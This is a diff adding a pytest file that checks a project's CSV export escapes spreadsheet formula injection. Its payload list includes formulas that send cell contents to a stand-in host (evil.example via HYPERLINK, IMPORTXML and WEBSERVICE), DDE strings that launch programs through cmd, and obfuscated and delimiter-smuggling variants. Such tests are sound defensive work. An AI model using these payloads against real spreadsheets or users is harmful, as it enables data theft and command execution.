@@ -1,0 +1,66 @@
+"""An attacker signs up under a name that is a formula, and waits until somebody opens the exported
+table: the formula sends the other cells elsewhere or starts a program (ASVS 1.2.10).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from zenith.content import csv_cell, csv_lines
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\xa0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "\x0b=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "|calc",
+    "%0A=1+1",
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    "-1+1",
+    "+1+1",
+    "\u2212cmd|x",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_shown(formula):
+    assert csv_cell(formula).startswith("'")
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+@pytest.mark.parametrize(
+    "value", ["a;=1+1", 'a";=1+1;"', "a\t=1+1", "a|=1+1", 'a",=1+1,"', "a\n=1+1", 'a"\n"=1+1']
+)
+def test_a_formula_is_not_the_next_cell_for_programs_of_other_separators(value, delimiter):
+    text = "".join(csv_lines([[value]]))
+    (row,) = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    assert row == [value]
+
+
+def test_numbers_stay_numbers():
+    assert [csv_cell(each) for each in (-5, -1.5, "-5", "+5", "-1,5")] == [
+        "-5",
+        "-1.5",
+        "-5",
+        "+5",
+        "-1,5",
+    ]
